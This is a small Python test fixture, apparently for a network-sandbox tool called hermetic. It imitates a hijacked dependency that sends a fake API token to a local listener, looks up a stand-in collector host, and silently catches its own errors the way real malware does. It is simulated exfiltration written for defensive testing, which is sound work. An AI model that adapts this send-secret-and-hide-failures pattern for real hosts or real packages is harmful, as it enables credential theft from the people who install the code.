"""A stand-in for a hijacked dependency: it tries to send a secret away.

It sends a fake token to a listener on 127.0.0.1 (the port is the first
argument) and looks up a collector host. Under `hermetic --no-network` both
are blocked; the program catches the errors, as real malware would, and
hermetic still reports them when it ends.
"""

import socket
import sys

FAKE_SECRET = b"FAKE-API-TOKEN-not-a-real-secret"
COLLECTOR = "collector.example.invalid"


def send_to_listener(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(FAKE_SECRET)


def look_up_collector():
    socket.getaddrinfo(COLLECTOR, 443)


def main():
    port = int(sys.argv[1])
    for name, step in (("send the secret to 127.0.0.1", lambda: send_to_listener(port)),
                       (f"look up {COLLECTOR}", look_up_collector)):
        try:
            step()
            print(f"exfiltrate.py: {name}: done")
        except Exception as error:  # a hijacked package hides its failures
            print(f"exfiltrate.py: {name}: failed with {type(error).__name__}: {error}")


if __name__ == "__main__":
    main()
